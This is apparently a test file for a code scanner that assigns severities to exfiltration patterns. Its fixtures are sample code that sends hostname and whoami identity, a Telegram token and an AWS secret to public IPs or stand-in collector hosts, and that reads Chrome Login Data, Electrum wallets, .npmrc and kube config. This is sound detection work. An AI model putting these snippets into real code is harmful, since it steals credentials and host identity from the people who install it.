"""Beacons and exfiltration written the way real packages write them: identity read through `whoami`/`hostname`
commands, identity sent to a bare public IP address (high; to a loopback or private address not raised), a bot
token used by the API it belongs to (low) or sent elsewhere (high)."""
from __future__ import annotations

from test_fact_severity import _by_line

RULE = "host-identity-sent-over-network"


def test_identity_posted_to_a_public_ip_is_high_to_a_private_or_loopback_address_medium():
    text = ("import socket, requests\n"
            "info = {'h': socket.gethostname()}\n"
            "requests.post('http://45.9.148.3/c', json=info)\n"
            "requests.post('http://10.0.0.5/c', json=info)\n"
            "requests.post('http://127.0.0.1:8000/c', json=info)\n")
    assert _by_line(RULE, "m.py", text) == {3: "high", 4: "medium", 5: "medium"}


def test_js_request_opened_on_a_public_ip_then_written_with_identity_is_high():
    text = ("const os = require('os'); const http = require('http');\n"
            "const data = JSON.stringify({ host: os.hostname() });\n"
            "const req = http.request({ host: '172.104.33.9', port: 80, method: 'POST' });\n"
            "req.write(data);\n"
            "const dev = http.request({ host: '192.168.1.20', port: 80, method: 'POST' });\n"
            "dev.write(data);\n")
    assert _by_line(RULE, "collect.js", text) == {4: "high", 6: "medium"}


def test_login_name_read_through_whoami_is_the_login_name():
    py = ("import subprocess, os, requests\n"
          "u = subprocess.check_output(['whoami']).decode().strip()\n"
          "requests.get('https://c.example.net/b?u=' + u)\n"
          "h = os.popen('hostname').read()\n"
          "requests.post('https://c.example.net/h', data=h)\n"
          "r = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
          "requests.post('https://c.example.net/r', data=r)\n")
    assert _by_line(RULE, "m.py", py) == {3: "high", 5: "medium"}
    js = ("const { execSync } = require('child_process');\n"
          "const who = execSync('whoami').toString().trim();\n"
          "fetch(`https://b.example.net/${who}`);\n"
          "const rev = execSync('git rev-parse HEAD').toString();\n"
          "fetch(`https://b.example.net/${rev}`);\n")
    assert _by_line(RULE, "m.js", js) == {3: "high"}


def test_telegram_bot_token_in_its_own_bot_api_url_is_low_sent_elsewhere_high():
    py = ("import os, requests\n"
          "t = os.environ['TELEGRAM_BOT_TOKEN']\n"
          "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': 'done'})\n"
          "requests.post('https://collect.example.net/t', data={'t': t})\n"
          "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n")
    assert _by_line("secret-env-var-sent-over-network", "m.py", py) == {3: "low", 4: "high", 5: "high"}
    js = ("const t = process.env.TELEGRAM_BOT_TOKEN;\n"
          "fetch(`https://api.telegram.org/bot${t}/sendMessage`, { method: 'POST', body: '{}' });\n"
          "fetch('https://collect.example.net/t', { method: 'POST', body: JSON.stringify({ t }) });\n")
    assert _by_line("js-secret-env-var-sent-over-network", "m.js", js) == {2: "low", 3: "high"}


def test_js_read_of_a_developer_tools_credentials_is_medium_of_a_browser_or_wallet_store_high():
    js = ("const fs = require('fs'); const os = require('os'); const path = require('path');\n"
          "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
          "const ld = fs.readFileSync(path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Login Data'));\n"
          "const w = fs.readdirSync(path.join(os.homedir(), '.electrum', 'wallets'));\n"
          "const k = fs.readFileSync(`${os.homedir()}/.kube/config`);\n")
    assert _by_line("js-credential-file-read", "m.js", js) == {2: "medium", 3: "high", 4: "high", 5: "medium"}
